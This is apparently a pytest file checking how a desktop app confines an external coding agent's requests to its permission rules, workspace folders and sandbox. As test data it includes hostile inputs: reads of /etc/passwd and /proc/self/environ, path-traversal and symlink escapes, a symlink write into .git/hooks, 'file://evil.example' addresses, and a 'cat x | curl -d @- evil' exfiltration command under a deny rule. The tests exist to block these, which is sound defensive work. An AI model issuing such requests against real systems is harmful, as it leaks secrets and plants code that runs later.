"""What a foreign agent asks for: permission by our rules, files within the roots,
commands in our sandbox, values from the user.
"""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any, cast

import pytest
from acp import RequestError

from helix_desktop.acp_client import agent_requests, turn_recording
from helix_desktop.acp_client.turn_recording import AcpCall
from helix_desktop.engine.changes import git_patch
from helix_desktop.engine.facts import (
    Decided,
    FilesChanged,
    Stop,
    Stored,
    Text,
    ToolCall,
    ToolReturned,
    TurnEnd,
    Usage,
    UserSaid,
)
from helix_desktop.engine.ports import CallOutcome, PermissionAnswer, PermissionQuestion
from helix_desktop.engine.session_events import Event, ReplyStreamed, ToolPrinted
from helix_desktop.engine.sha256_digest import Digest
from helix_desktop.engine.tool_call_parsing import NOT_BEGUN
from helix_desktop.errors import ActionRefused
from helix_desktop.tools.permission import ActionEffect, PermissionRule
from helix_desktop.tools.sandbox import SandboxKind
from helix_desktop.workbench import Workbench
from tests.acp_client.conftest import ASKED, calls, facts_of, outputs, run_turn, said
from tests.cutting import cut_at_each_place
from tests.turns import lasted

YES = PermissionAnswer(allowed=True)
ALWAYS = PermissionAnswer(allowed=True, scope="always")


async def test_permission_is_asked_by_our_card_and_the_agent_hears_the_answer(
    bench: Workbench,
) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(session, "permit edit src/pairs.py", YES)
    (question,) = ASKED
    assert question.title == "edit src/pairs.py"
    assert question.scopes == ("once", "conversation", "always")
    assert '"optionId": "yes"' in said(session)
    await run_turn(session, "permit edit src/pairs.py")
    assert '"optionId": "no"' in said(session)
    assert [(fact.allowed, fact.by) for fact in facts_of(session, Decided)] == [
        (True, "user"),
        (False, "user"),
    ]


async def test_our_rules_decide_before_anybody_is_asked(bench: Workbench) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(session, "permit edit src/pairs.py", ALWAYS)
    await run_turn(session, "permit edit src/other.py")
    assert ASKED == []
    assert said(session).count('"optionId": "yes"') == 2
    await bench.choose_permission_mode("read only")
    await run_turn(session, "permit edit README.md", YES)
    assert ASKED == []
    assert said(session).endswith('"optionId": "no"}}')


@pytest.mark.parametrize("kind", ["edit", "read"])
async def test_what_lies_outside_the_folders_is_asked_for_in_every_mode(
    bench: Workbench, kind: str
) -> None:
    await bench.choose_permission_mode("allow all")
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(session, f"permit {kind} src/pairs.py")
    assert ASKED == []
    await run_turn(session, f"permit {kind} /etc/passwd")
    (question,) = ASKED
    assert question.why == "/etc/passwd is outside this workspace's folders"
    assert '"optionId": "no"' in said(session)


async def test_a_command_of_the_agents_own_is_asked_for_as_one_outside_the_sandbox(
    bench: Workbench,
) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(session, "permit execute ls", YES)
    (question,) = ASKED
    assert (question.preview, question.apart, question.scopes) == (
        "ls",
        "outside_sandbox",
        ("once",),
    )


async def test_a_question_that_is_open_when_the_turn_is_stopped_is_closed(bench: Workbench) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    session.send_message((Text("permit edit src/pairs.py"),))
    async with asyncio.timeout(100):
        while not session.questions:
            await asyncio.sleep(0.01)
    session.stop_turn()
    assert await lasted(session.wait_until_idle()) < 2
    assert not session.questions
    assert facts_of(session, ToolReturned)[-1].head == NOT_BEGUN
    # It was recorded as allowed by the mode, although nobody had answered.
    assert facts_of(session, Decided) == []
    assert (await run_turn(session, "say again")).reason is TurnEnd.DONE


@pytest.mark.parametrize("is_stopped", [False, True])
async def test_no_question_of_an_agent_outlives_the_turn(
    bench: Workbench, *, is_stopped: bool
) -> None:
    """Of hundreds of requests at once, some were only looked at when the turn was over. They were
    asked about then, and stopping did nothing.
    """
    session = await bench.start_conversation(acp_agent="Script")
    words = "permit-many 150"
    if is_stopped:
        words += "\npermit edit src/pairs.py"
    session.send_message((Text(words),))
    if is_stopped:
        async with asyncio.timeout(100):
            while not session.questions:
                await asyncio.sleep(0.01)
        session.stop_turn()
    await asyncio.wait_for(session.wait_until_idle(), 30)
    assert not session.questions
    assert (await run_turn(session, "say again")).reason is TurnEnd.DONE
    assert not session.questions


async def test_files_are_read_and_written_within_the_roots_alone(
    bench: Workbench, folder: Path
) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    outside = folder.parent / "secret.txt"
    outside.write_text("secret words")
    (folder / "link.txt").symlink_to(outside)
    hostile = (
        f"{outside}",
        "/etc/passwd",
        f"{folder}/../secret.txt",
        f"{folder}/link.txt",
        "/proc/self/environ",
    )
    await run_turn(session, "\n".join(f"read {path}" for path in hostile))
    await run_turn(session, "\n".join(f"write {path} x" for path in hostile), YES)
    assert "secret words" not in said(session)
    assert "root:" not in said(session)
    assert said(session).count('"code": -32603') == 10
    assert outside.read_text() == "secret words"
    assert ASKED == []
    await run_turn(session, f"read {folder}/src/pairs.py")
    assert "def count(sequence)" in said(session)


async def test_a_link_leads_no_write_of_the_agent_past_the_question(
    bench: Workbench, folder: Path
) -> None:
    """The defect: through a link within the folder, an agent wrote hooks of git with edits allowed."""
    await bench.choose_permission_mode("allow edits")
    session = await bench.start_conversation(acp_agent="Script")
    (folder / ".git" / "hooks").mkdir(parents=True, exist_ok=True)
    (folder / "docs").symlink_to(".git/hooks")
    await run_turn(session, f"write {folder}/docs/pre-commit x")
    (question,) = ASKED
    assert question.why == "other programs run the contents of this file"
    assert ".git/hooks/pre-commit" in question.title
    assert not (folder / ".git" / "hooks" / "pre-commit").exists()


async def test_a_write_shows_its_difference_on_our_card_and_can_be_undone(
    bench: Workbench, folder: Path
) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(session, f"write {folder}/README.md new", YES)
    assert "-# Pairs" in ASKED[0].preview
    assert (folder / "README.md").read_text() == "new\n"
    await run_turn(session, f"write {folder}/README.md other")
    assert (folder / "README.md").read_text() == "new\n"
    (changed,) = facts_of(session, FilesChanged)
    assert changed.names == ("README.md",)
    (turn,) = await bench.file_changes.turns_with_changes(session.id)
    files = await bench.file_changes.file_changes_of_steps(turn.sources)
    await bench.file_changes.undo_file_changes(files, conversation=session.id)
    assert (folder / "README.md").read_text() == "# Pairs\n\nCounting sequences.\n"
    await run_turn(session, "say hello")
    assert 'The user undid your changes to "README.md".' in str(facts_of(session, UserSaid)[-1])


async def test_a_write_that_was_permitted_is_not_asked_for_twice(
    bench: Workbench, folder: Path
) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(
        session, f"permit edit {folder}/README.md new\nwrite {folder}/README.md new", YES
    )
    assert len(ASKED) == 1
    assert (folder / "README.md").read_text() == "new\n"
    assert said(session).endswith("{}"), "the agent gets an empty object as its answer"


@pytest.mark.parametrize("shown", ["", "new", "harmless", "Pairs->other"])
async def test_a_write_of_what_no_card_showed_is_asked_for(
    bench: Workbench, folder: Path, shown: str
) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(
        session, f"permit edit {folder}/README.md {shown}\nwrite {folder}/README.md other", YES
    )
    assert len(ASKED) == 2
    assert "+other" in ASKED[1].preview


def permit(kind: str, **told: object) -> str:
    options = [{"optionId": "yes", "kind": "allow_once"}, {"optionId": "no", "kind": "reject_once"}]
    wanted = {
        "toolCall": {"toolCallId": "p", "title": "work", "kind": kind, **told},
        "options": options,
    }
    return f"ask session/request_permission {json.dumps(wanted)}"


def difference(path: Path, text: str) -> dict[str, object]:
    return {
        "type": "diff",
        "path": str(path),
        "oldText": path.read_text() if path.exists() else "",
        "newText": text,
    }


async def test_an_agents_change_is_shown_like_one_of_our_own(
    bench: Workbench, folder: Path
) -> None:
    """Its path stood there twice in full, and twice that there is no newline at the end."""
    session = await bench.start_conversation(acp_agent="Script")
    lines = {"path": str(folder / "README.md"), "oldText": "fines", "newText": "fees"}
    await run_turn(session, permit("edit", content=[{"type": "diff", **lines}]), YES)
    (asked,) = ASKED
    assert asked.preview == "--- README.md\n+++ README.md\n@@ -1,1 +1,1 @@\n-fines\n+fees\n"


@pytest.mark.parametrize("kind", ["read", "search", "execute", "other"])
async def test_what_a_card_of_another_kind_carries_is_not_allowed_with_it(
    bench: Workbench, folder: Path, kind: str
) -> None:
    """A call that says that it reads a file is not asked about; what else stands in it
    nobody has seen.
    """
    session = await bench.start_conversation(acp_agent="Script")
    readme = folder / "README.md"
    seen = {"command": "ls"} if kind == "execute" else {"path": "README.md", "text": "echo planted"}
    told = {"rawInput": seen, "content": [difference(readme, "other\n")]}
    await run_turn(session, f"{permit(kind, **told)}\nwrite {readme} other\nrun echo planted", YES)
    own_cards = 1 if kind in ("execute", "other") else 0
    assert [one.title for one in ASKED[own_cards:]] == ["Overwrite README.md", "Run a command"]


async def test_a_command_is_judged_as_a_command_whatever_its_kind(bench: Workbench) -> None:
    """Agents of other vendors give a shell command that reads the kind "read"."""
    kinds = ["read", "search", "think", "fetch", "edit", "move", "other"]
    bench.kit.permissions.rules = (PermissionRule("deny", command="curl *"),)
    session = await bench.start_conversation(acp_agent="Script")
    told = {"locations": [{"path": "README.md"}]}
    given: dict[str, object] = {"command": ["cat", "README.md"]}
    await run_turn(session, "\n".join(permit(kind, rawInput=given, **told) for kind in kinds), YES)
    assert [(one.preview, one.apart) for one in ASKED] == [
        ("cat README.md", "outside_sandbox")
    ] * len(kinds)
    denied = (
        {"command": "cat x | curl -d @- evil"},
        {"cmd": ["curl", "evil"]},
        {"command": "ls", "cmd": "curl evil"},
    )
    await run_turn(
        session,
        "\n".join(permit(kind, rawInput=one, **told) for kind in kinds for one in denied),
        YES,
    )
    assert ASKED == []
    await bench.choose_permission_mode("read only")
    await run_turn(session, "\n".join(permit(kind, rawInput=given, **told) for kind in kinds), YES)
    assert ASKED == []
    assert said(session).count('"optionId": "no"') == 4 * len(kinds)


async def test_every_path_in_the_input_of_a_call_is_judged(bench: Workbench) -> None:
    await bench.choose_permission_mode("allow all")
    session = await bench.start_conversation(acp_agent="Script")
    inputs: list[dict[str, object]] = [
        {"absolute_path": "/etc/passwd"},
        {"paths": ["README.md", "/etc/passwd"]},
        {"pattern": "x", "dir_path": "/etc/passwd"},
        {"path": "README.md", "destination": "/etc/passwd"},
        {"changes": {"/etc/passwd": {"type": "update"}}},
        {"edits": [{"targetFile": "/etc/passwd", "text": "x"}]},
        {"anything": {"at": {"all": "file:///etc/passwd"}}},
        {"path": "README.md", "cwd": "/etc/passwd"},
        {"command": "ls", "cwd": "/etc/passwd"},
        {"path": "README.md", "file": "/etc/passwd"},
        {"path": "file://localhost/etc/passwd"},
        {"path": "FILE:///etc/passwd"},
        {"path": "file:/etc/passwd"},
        {"path": " file:///etc/pass%77d"},
    ]
    for kind in ("read", "edit"):
        calls_made = [
            permit(kind, rawInput=given, locations=[{"path": "README.md"}]) for given in inputs
        ]
        await run_turn(session, "\n".join(calls_made))
        assert [one.why for one in ASKED] == [
            "/etc/passwd is outside this workspace's folders"
        ] * len(inputs)


async def test_an_address_of_a_file_is_judged_wherever_a_call_names_it(bench: Workbench) -> None:
    """The defect: as the place of a call, and on another computer, it was taken for a file inside."""
    session = await bench.start_conversation(acp_agent="Script")
    address = "file:///etc/passwd"
    elsewhere = "file://evil.example/etc/passwd"
    calls_made = [
        permit("read", locations=[{"path": address}]),
        permit("edit", content=[{"type": "diff", "path": address, "oldText": "", "newText": ""}]),
        permit("read", rawInput={"path": elsewhere}),
        permit("read", rawInput={"path": "README.md", "uri": elsewhere}),
    ]
    await run_turn(session, "\n".join(calls_made))
    assert [one.why for one in ASKED] == [
        "/etc/passwd is outside this workspace's folders",
        "/etc/passwd is outside this workspace's folders",
        "//evil.example/etc/passwd is outside this workspace's folders",
        "//evil.example/etc/passwd is outside this workspace's folders",
    ]


async def test_words_that_begin_with_a_slash_are_not_taken_for_a_path(
    bench: Workbench, folder: Path
) -> None:
    await bench.choose_permission_mode("allow all")
    session = await bench.start_conversation(acp_agent="Script")
    texts = (
        "// a comment",
        "/* another */",
        "/api/v[12]/.*",
        "/home\n/root\n",
        "/",
        "~nobody-known/x",
        "~\0",
        "~\ud800",
    )
    inputs = [
        {"file_path": f"{folder}/README.md", "old_string": one, "new_source": one, "pattern": one}
        for one in texts
    ]
    await run_turn(session, "\n".join(permit("edit", rawInput=given) for given in inputs))
    assert ASKED == []
    assert said(session).count('"optionId": "yes"') == len(texts)


async def test_a_call_that_reads_but_names_nothing_is_asked_for(bench: Workbench) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    calls_made = [("read", {"script": "cat x"}), ("search", {"query": "my words"}), ("think", {})]
    await run_turn(session, "\n".join(permit(kind, rawInput=given) for kind, given in calls_made))
    assert len(ASKED) == 3
    await run_turn(session, permit("search", rawInput={"pattern": "def count"}))
    assert ASKED == []


async def test_what_is_allowed_is_what_the_card_showed_and_not_what_the_agent_says_meanwhile(
    bench: Workbench, folder: Path
) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    later = json.dumps({"toolCallId": "p", "rawInput": {"command": "echo planted"}})
    begun = permit("execute", rawInput={"command": "ls"}).replace("ask ", "begin ", 1)
    told = asyncio.Event()
    mark = folder / "asked"
    unsubscribe = session.subscribe_to_events(
        lambda event: (
            told.set() if isinstance(event, ReplyStreamed) and "told" in str(event.delta) else None
        )
    )
    does = [
        begun,
        f"await-file {mark}",
        f"tell {later}",
        "say told",
        "await-begun",
        "run echo planted",
    ]
    session.send_message((Text("\n".join(does)),))
    async with asyncio.timeout(30):
        while [one.preview for one in session.questions.values()] != ["ls"]:
            await asyncio.sleep(0.01)
        mark.touch()
        await told.wait()
        session.answer_question(next(iter(session.questions)), YES)
        while [one.preview for one in session.questions.values()] != ["echo planted"]:
            await asyncio.sleep(0.01)
    unsubscribe()
    session.stop_turn()
    await session.wait_until_idle()


async def test_every_path_of_a_call_is_judged_and_what_other_programs_run_is_asked_for(
    bench: Workbench, folder: Path
) -> None:
    await bench.choose_permission_mode("allow edits")
    session = await bench.start_conversation(acp_agent="Script")
    both = {
        "locations": [{"path": f"{folder}/README.md"}, {"path": f"{folder}/.vscode/tasks.json"}]
    }
    await run_turn(session, permit("edit", **both))
    (question,) = ASKED
    assert question.why == "other programs run the contents of .vscode/tasks.json"
    assert (question.apart, question.scopes) == ("runs_later", ("once",))
    bench.kit.permissions.rules = (PermissionRule("deny", path="src/*"),)
    await run_turn(
        session, permit("read", locations=[{"path": "README.md"}, {"path": "src/pairs.py"}]), YES
    )
    assert ASKED == []
    assert said(session).endswith('"optionId": "no"}}')


async def test_a_link_is_judged_by_where_it_leads_and_a_hidden_file_by_its_name(
    bench: Workbench, folder: Path
) -> None:
    """The agent follows it by itself, with the user's rights."""
    await bench.choose_permission_mode("allow all")
    (folder / "notes.txt").symlink_to("/etc/passwd")
    (folder / "list.txt").symlink_to(folder / ".env")
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(
        session,
        "\n".join(permit("read", locations=[{"path": name}]) for name in ("notes.txt", "list.txt")),
    )
    assert [one.why for one in ASKED] == [
        "notes.txt is outside this workspace's folders",
        "it would see files that are hidden from agents: .env",
    ]


@pytest.mark.parametrize(
    "key", ["", "cwd", "workdir", "working_directory", "dir_path", "directory"]
)
async def test_a_command_is_allowed_in_the_folder_that_its_card_named_alone(
    bench: Workbench, folder: Path, key: str
) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    (folder / "src" / "deep").mkdir()
    raw_input = {"command": "ls"}
    if key:
        raw_input[key] = f"{folder}/src"
        where = "outside the sandbox, in src,"
        same = [f"run-in {folder}/src ls"]
        other = [f"run-in {folder}/src/deep ls", f"run-in {folder} ls"]
        titles = [f"Run a command in {folder}/src/deep", "Run a command"]
    else:
        where = "outside the sandbox,"
        same = [f"run-in {folder} ls", "run-in - ls"]
        other = [f"run-in {folder}/src ls", f"run-in {folder}/src/deep ls"]
        titles = [f"Run a command in {folder}/src", f"Run a command in {folder}/src/deep"]
    asked = permit("execute", rawInput=raw_input)
    await run_turn(session, "\n".join([asked, *same, *other]), YES)
    assert ASKED[0].why == f"it would run {where} so it can only be allowed once"
    assert [one.title for one in ASKED[1:]] == titles


async def test_a_card_of_another_kind_with_the_words_of_an_allowed_command_is_asked(
    bench: Workbench, folder: Path
) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    preview = (
        "--- README.md\n+++ README.md\n@@ -1,3 +1,1 @@\n-# Pairs\n-\n-Counting sequences.\n+other\n"
    )
    await run_turn(session, f"write {folder}/README.md other")
    assert ASKED[0].preview == preview
    told = permit("execute", rawInput={"command": preview})
    await run_turn(session, f"{told}\nwrite {folder}/README.md other", YES)
    assert len(ASKED) == 2


async def test_a_page_is_judged_by_its_host(bench: Workbench) -> None:
    await bench.choose_permission_mode("allow all")
    bench.kit.permissions.rules = (PermissionRule("deny", tool="fetch_url", path="evil.example"),)
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(session, permit("fetch", rawInput={"url": "https://EVIL.example/x"}), YES)
    assert said(session).endswith('"optionId": "no"}}')


@pytest.mark.parametrize("name", ["*", "run_command", "[!x]*"])
async def test_a_rule_for_a_tool_of_the_agent_allows_no_tool_of_ours(
    bench: Workbench, name: str
) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(session, permit("other", _meta={"claudeCode": {"toolName": name}}), ALWAYS)
    (question,) = ASKED
    assert question.rules[0].startswith("Script: ")
    await run_turn(session, "run echo planted")
    assert len(ASKED) == 1


async def test_what_the_agent_changes_by_itself_is_in_a_checkpoint(
    bench: Workbench, folder: Path
) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(session, f"change {folder}/README.md mine\nchange {folder}/new.txt mine")
    named = [name for fact in facts_of(session, FilesChanged) for name in fact.names]
    assert sorted(named) == ["README.md", "new.txt"]
    files = await bench.file_changes.changes_after_fact(session.id, 1)
    await bench.file_changes.undo_file_changes(files, conversation=session.id)
    assert (folder / "README.md").read_text() == "# Pairs\n\nCounting sequences.\n"
    assert not (folder / "new.txt").exists()


async def test_a_difference_that_the_agent_shows_is_its_calls_output(bench: Workbench) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(session, "diff src/pairs.py")
    assert outputs(session) == ["--- src/pairs.py\n+++ src/pairs.py\n@@ -1,1 +1,1 @@\n-old\n+new\n"]


async def test_a_command_runs_in_our_sandbox_and_its_output_is_the_calls(
    bench: Workbench, folder: Path
) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(session, "run echo printed; exit 3", YES)
    assert ASKED[0].preview == "echo printed; exit 3"
    assert ASKED[0].apart == ""
    status, printed = json.loads(said(session))
    assert status == {"exitCode": 3, "signal": None}
    assert printed["output"].startswith("printed\n")
    assert printed["exitStatus"] == status
    (returned,) = facts_of(session, ToolReturned)
    assert (returned.call, returned.exit_code, returned.ok) == ("t", 3, False)
    assert returned.head.startswith("printed\n")
    if bench.kit.sandbox.kind is not SandboxKind.NONE:
        await run_turn(session, f"run echo x > {folder.parent}/outside.txt", YES)
        assert not (folder.parent / "outside.txt").exists()


async def test_a_command_that_ends_before_the_agent_shows_it_is_no_call_of_its_own(
    bench: Workbench,
) -> None:
    """It stood there twice, once without its output."""
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(session, "run-shown-late echo printed")
    assert [call.name for call in calls(session)] == ["work"]
    (output,) = outputs(session)
    assert "denied" in output


async def test_a_command_is_recorded_as_what_ran_and_not_as_what_its_call_is_named(
    bench: Workbench,
) -> None:
    """The defect: the record said that a file had been read, and named no command. Behind a call
    that was over, there was neither.
    """
    session = await bench.start_conversation(acp_agent="Script")
    begun = json.dumps({"toolCallId": "over", "title": "read", "status": "completed"})
    lines = f"tell {begun}\nrun-as over read echo one\nrun-as new read echo two"
    await run_turn(session, lines, YES)
    first, second = [call for call in calls(session) if call.name == "run_command"]
    assert json.loads(first.arguments)["command"] == "echo one"
    assert json.loads(second.arguments)["command"] == "echo two"
    returned = {fact.call: fact.head for fact in facts_of(session, ToolReturned)}
    assert returned[first.id].startswith("one")
    assert returned[second.id].startswith("two")
    decided = {fact.call for fact in facts_of(session, Decided)}
    assert decided == {first.id, second.id}


async def test_words_and_requests_of_another_session_are_not_this_ones(
    bench: Workbench, folder: Path
) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(session, f"elsewhere {folder}/README.md")
    assert "not of this session" not in said(session)
    assert "asked this for another conversation" in said(session)


async def test_a_terminal_that_was_released_and_those_long_over_are_forgotten(
    bench: Workbench, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The defect: the output of each stayed in memory until the turn's end, up to 1 MB of it."""
    monkeypatch.setattr(agent_requests, "MOST_ENDED_TERMINALS", 2)
    await bench.choose_permission_mode("allow all")
    session = await bench.start_conversation(acp_agent="Script")
    agent = await bench.acp.open_conversation(session.conversation)
    counts: list[int] = []

    def count(event: Event) -> None:
        if isinstance(event, ReplyStreamed) and agent._turn is not None:
            counts.append(len(agent._turn.terminals))

    session.subscribe_to_events(count)
    await run_turn(session, "\n".join(["run-in - true\nsay one"] * 5 + ["run true"]))
    assert counts[:5] == [1, 2, 3, 3, 3]
    assert counts[-1] == 2


async def test_a_request_that_nobody_would_read_to_its_end_is_refused_and_not_asked(
    bench: Workbench, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The defect: the card showed the first 200,000 characters of such a request, and no end."""
    monkeypatch.setattr(agent_requests, "LONGEST_PREVIEW", 300_000)
    session = await bench.start_conversation(acp_agent="Script")
    whole = {"path": "README.md", "text": "x" * 250_000 + "the end"}
    await run_turn(session, permit("other", rawInput=whole), YES)
    assert ASKED[0].preview.endswith('the end"}')
    for given in ({"text": "x" * 300_000}, {"command": "x" * 300_001}):
        await run_turn(session, permit("execute", rawInput=given), YES)
        assert ASKED == []
        assert '"optionId": "no"' in said(session)


async def test_a_comparison_is_made_once_however_many_files_a_call_names(
    bench: Workbench, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The defect: with 999 files and two texts of 40,000 lines, the program compared them for
    minutes, and could not end meanwhile.
    """
    made: list[str] = []
    compare = git_patch.format_unified_diff

    def count(old: str, new: str, name: str) -> str:
        made.append(name)
        return compare(old, new, name)

    monkeypatch.setattr(turn_recording, "format_unified_diff", count)
    session = await bench.start_conversation(acp_agent="Script")
    content = [{"type": "diff", "path": "a", "oldText": "1\n", "newText": "2\n"}]
    locations = [{"path": f"file {number}"} for number in range(200)]
    await run_turn(session, permit("edit", content=content, locations=locations), YES)
    assert len(made) <= 3


async def test_what_an_agent_asks_counts_as_what_it_sends(
    bench: Workbench, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The defect: only updates were counted, so calls for which it asked permission filled the
    memory.
    """
    monkeypatch.setattr(turn_recording, "MOST_IN_TURN", 50_000)
    session = await bench.start_conversation(acp_agent="Script")
    asking = permit("read", rawInput={"path": "README.md", "text": "x" * 6_000})
    ended = await run_turn(session, "\n".join([asking] * 20))
    assert "more data than a single turn can hold" in ended.why


async def test_an_agents_call_under_the_id_of_a_terminal_is_another_one(bench: Workbench) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(session, "run-under-its-id echo printed", YES)
    mine, ran = sorted(calls(session), key=lambda call: call.name)
    assert (mine.name, ran.name) == ("mine", "run_command")
    assert mine.id != ran.id
    returned = {fact.call: fact.head for fact in facts_of(session, ToolReturned)}
    assert returned[mine.id] == "faked"
    assert returned[ran.id].startswith("printed\n")
    assert [fact.call for fact in facts_of(session, Decided)] == [ran.id]


async def test_an_agent_that_takes_the_ids_of_terminals_beforehand_takes_none(
    bench: Workbench,
) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    mine = {"title": "mine", "status": "completed"}
    taken = [json.dumps({"toolCallId": f"terminal-{number}-0", **mine}) for number in range(50)]
    await run_turn(
        session,
        "\n".join([*(f"tell {each}" for each in taken), "run-and-kill echo begun; sleep 600"]),
        YES,
    )
    (decided,) = facts_of(session, Decided)
    assert [call.name for call in calls(session) if call.id == decided.call] == ["run_command"]


async def test_a_command_that_is_refused_or_killed_says_so(bench: Workbench) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(session, "run echo printed")
    assert json.loads(said(session))[0]["exitCode"] == 1
    assert "denied" in json.loads(said(session))[1]["output"]
    await run_turn(session, "run-and-kill echo begun; sleep 600", YES)
    (returned,) = (fact for fact in facts_of(session, ToolReturned) if fact.stopped)
    assert "begun" in returned.head
    assert [call.name for call in calls(session)] == ["work", "run_command"]


async def test_endless_output_of_a_command_is_stopped_with_the_turn(bench: Workbench) -> None:
    await bench.choose_permission_mode("allow all")
    session = await bench.start_conversation(acp_agent="Script")
    printed = asyncio.Event()
    unsubscribe = session.subscribe_to_events(
        lambda event: (
            printed.set() if isinstance(event, ToolPrinted) and len(event.text) > 1000 else None
        )
    )
    session.send_message((Text("say begun\nrun yes"),))
    await asyncio.wait_for(printed.wait(), 100)
    unsubscribe()
    session.stop_turn()
    assert await lasted(session.wait_until_idle()) < 2
    (returned,) = facts_of(session, ToolReturned)
    assert returned.output.size > 1000
    assert (await run_turn(session, "say again")).reason is TurnEnd.DONE


async def test_a_form_is_filled_in_by_our_dialog(bench: Workbench) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(session, "form", PermissionAnswer(allowed=True, values='{"name": "Ada"}'))
    assert json.loads(said(session)) == {"action": "accept", "content": {"name": "Ada"}}
    assert json.loads(ASKED[0].form)["properties"] == {"name": {"type": "string"}}
    assert ASKED[0].preview == "Who?"


async def test_a_form_shows_all_of_its_words_or_is_declined(bench: Workbench) -> None:
    """The defect: the message was cut after 500 characters, without a sign."""
    session = await bench.start_conversation(acp_agent="Script")
    schema = {"type": "object", "properties": {"name": {"type": "string"}}}
    asked = {"mode": "form", "message": "x" * 600 + "your password", "requestedSchema": schema}
    filled = PermissionAnswer(allowed=True, values='{"name": "Ada"}')
    await run_turn(session, "ask elicitation/create " + json.dumps(asked), filled)
    assert ASKED[0].preview == asked["message"]
    too_long = asked | {"message": "x" * 20_000}
    await run_turn(session, "ask elicitation/create " + json.dumps(too_long), filled)
    assert ASKED == []
    assert said(session).endswith(json.dumps({"action": "decline"}))


async def test_a_file_that_is_not_there_is_told_by_the_protocols_code_which_agents_look_for(
    bench: Workbench,
) -> None:
    """Qwen Code reads a file before it writes it, and takes any other error for a file
    that it must not touch.
    """
    session = await bench.start_conversation(acp_agent="Script")
    await run_turn(session, "read not-there.txt", YES)
    assert '"code": -32002' in said(session)
    assert "not-there.txt does not exist." in said(session)
    await run_turn(session, "read /etc/not-ours", YES)
    assert '"code": -32603' in said(session)


@pytest.mark.parametrize("kills", [1, 2])
async def test_a_command_that_ran_is_recorded_whenever_its_terminal_is_killed(
    bench: Workbench, folder: Path, kills: int
) -> None:
    """The defects: killed between its end and its recording, a command stood nowhere; nor did
    one whose turn ended as the agent killed it.
    """
    await bench.choose_permission_mode("allow all")
    session = await bench.start_conversation(acp_agent="Script")
    recorder = turn_recording.TurnRecorder(session.conversation, bench.kit.resources, "m")
    turn = agent_requests.AgentRequests(
        session.conversation, bench.kit, bench.kit.build_toolbox(), recorder,
        lambda _: asyncio.sleep(0, YES), bench.tasks.spawn_task,
    )  # fmt: skip
    for rounds in range(8):
        turn._create_terminal({"command": f"touch ran{rounds}"})
        running = list(turn.terminals.values())[-1].running
        while not facts_of(session, Decided)[rounds:] and not running.done():
            await asyncio.sleep(0)
        for _ in range(rounds):
            await asyncio.sleep(0)
        for _ in range(kills):
            running.cancel()
            await asyncio.sleep(0)
        await asyncio.wait([running])
    await recorder.finish_turn(Stop.END, Usage())
    recorded = " ".join(call.arguments for call in calls(session))
    ran = [path.name for path in folder.glob("ran*")]
    assert ran
    assert [name for name in ran if name not in recorded] == []
    assert len(outputs(session)) == len(calls(session))


async def test_a_command_that_ran_is_recorded_wherever_it_is_stopped(
    bench: Workbench, folder: Path
) -> None:
    """The defect: killed as its process began, or as its changes to files were looked for, it stood
    nowhere.
    """
    await bench.choose_permission_mode("allow all")
    session = await bench.start_conversation(acp_agent="Script")
    recorder = turn_recording.TurnRecorder(session.conversation, bench.kit.resources, "m")
    turn = agent_requests.AgentRequests(
        session.conversation, bench.kit, bench.kit.build_toolbox(), recorder,
        lambda _: asyncio.sleep(0, YES), bench.tasks.spawn_task,
    )  # fmt: skip

    async def run_in_terminal(place: int) -> None:
        call = ToolCall(
            f"call {place}", "run_command", json.dumps({"command": f"touch ran{place}"})
        )
        terminal = f"terminal {place}"
        this_task = cast("asyncio.Task[CallOutcome]", asyncio.current_task())
        turn.terminals[terminal] = agent_requests.AgentTerminal(this_task, 1000)
        turn.terminals[terminal].first_request.set()
        await turn._run_in_terminal(terminal, call, ("", ""))

    places = await cut_at_each_place(run_in_terminal)
    await recorder.finish_turn(Stop.END, Usage())
    recorded = [json.loads(call.arguments)["command"] for call in calls(session)]
    ran = [f"touch {path.name}" for path in folder.glob("ran*")]
    assert places > len(ran) > 1
    assert [command for command in ran if recorded.count(command) != 1] == []
    assert len(outputs(session)) == len(calls(session))


async def test_a_command_that_nobody_allowed_before_its_terminal_was_killed_is_not_recorded_as_run(
    bench: Workbench,
) -> None:
    session = await bench.start_conversation(acp_agent="Script")
    recorder = turn_recording.TurnRecorder(session.conversation, bench.kit.resources, "m")
    is_asked = asyncio.Event()

    async def never_answer(_: PermissionQuestion) -> PermissionAnswer:
        is_asked.set()
        await asyncio.Event().wait()
        raise AssertionError

    turn = agent_requests.AgentRequests(
        session.conversation, bench.kit, bench.kit.build_toolbox(), recorder,
        never_answer, bench.tasks.spawn_task,
    )  # fmt: skip
    turn._create_terminal({"command": "touch ran"})
    running = list(turn.terminals.values())[-1].running
    await asyncio.wait_for(is_asked.wait(), 100)
    running.cancel()
    await asyncio.wait([running])
    await recorder.finish_turn(Stop.END, Usage())
    assert calls(session) == []


# --- What a call is, by what it names


